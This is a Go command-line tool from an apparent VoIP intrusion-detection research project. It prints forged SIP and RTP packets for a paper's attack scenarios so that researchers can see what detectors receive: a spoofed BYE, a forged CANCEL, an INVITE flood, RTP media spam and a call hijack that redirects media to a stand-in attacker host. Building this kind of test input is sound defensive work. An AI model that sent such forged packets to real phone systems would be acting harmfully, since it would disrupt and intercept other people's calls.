// Command attackgen prints the wire-format packets each attack
// scenario of the paper's threat model (Section 3) would inject —
// useful for inspecting what the detectors actually see.
//
// Usage:
//
//	attackgen [-scenario bye-dos|cancel-dos|invite-flood|media-spam|hijack]
package main

import (
	"flag"
	"fmt"
	"os"

	"vids/internal/dialog"
	"vids/internal/sdp"
	"vids/internal/sim"
	"vids/internal/sipmsg"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "attackgen:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("attackgen", flag.ContinueOnError)
	scenario := fs.String("scenario", "bye-dos", "scenario to render")
	if err := fs.Parse(args); err != nil {
		return err
	}

	// The sniffed dialog every in-dialog forgery reuses, and the host
	// the attacker sends from.
	call := dialog.Call{
		ID:     "a84b4c76e66710@ua1.a.example.com",
		Caller: dialog.Party{AOR: sipmsg.URI{User: "alice", Host: "a.example.com"}, Tag: "1928301774", UA: sim.Addr{Host: "ua1.a.example.com"}},
		Callee: dialog.Party{AOR: sipmsg.URI{User: "bob", Host: "b.example.com"}, Tag: "a6c85cf", Contact: sipmsg.URI{User: "bob", Host: "ua2.b.example.com"}},
	}
	const attacker = "attacker.evil.example.com"
	evil := func(user string, mediaPort int) dialog.Party {
		return dialog.Party{Contact: sipmsg.URI{User: user, Host: attacker},
			UA: sim.Addr{Host: attacker, Port: 5060}, Media: sim.Addr{Host: attacker, Port: mediaPort}}
	}

	switch *scenario {
	case "bye-dos":
		bye := call.Bye(false)
		bye.Branch = "z9hG4bKspoofed1"
		fmt.Println("# Spoofed BYE (Section 3.1): impersonates the caller toward the callee.")
		fmt.Println("# The receiving UA cannot distinguish it from a genuine hangup.")
		os.Stdout.Write(bye.Bytes())
	case "cancel-dos":
		cancel := call.Cancel()
		cancel.Via, cancel.Branch = sim.Addr{Host: attacker, Port: 5060}, "z9hG4bKforged1"
		fmt.Println("# Forged CANCEL (Section 3.1): kills a pending call attempt.")
		os.Stdout.Write(cancel.Bytes())
	case "invite-flood":
		fmt.Println("# INVITE flood (Section 3.1, Figure 4): N such messages within window T1.")
		bot := evil("bot", 40000)
		bot.AOR, bot.Tag = sipmsg.URI{User: "bot1", Host: "evil.example.com"}, "bot1tag"
		inv := dialog.FloodInvite(bot, call.Callee.AOR, "flood-0001@"+attacker)
		inv.Branch = "z9hG4bKfld0001"
		os.Stdout.Write(inv.Bytes())
	case "media-spam":
		fmt.Println("# Media spam (Section 3.2, Figure 6): sniffed SSRC, jumped sequence/timestamp.")
		p := dialog.RTP{PT: sdp.PayloadG729, Seq: 0x3039 + 1000, TS: 0x12345678 + 160000, SSRC: 0xDEADBEEF, Len: 20}
		fmt.Printf("RTP v2 PT=%d seq=%d ts=%d ssrc=%#x payload=%dB\nhex: % x\n",
			p.PT, p.Seq, p.TS, p.SSRC, p.Len, p.Bytes())
	case "hijack":
		re := call.Hijack(evil("mallory", 41000))
		re.Branch, re.CSeq = "z9hG4bKhijack1", 3
		fmt.Println("# Call hijack (Section 3.1): in-dialog re-INVITE redirecting media to the attacker.")
		os.Stdout.Write(re.Bytes())
	default:
		return fmt.Errorf("unknown scenario %q", *scenario)
	}
	fmt.Println()
	return nil
}
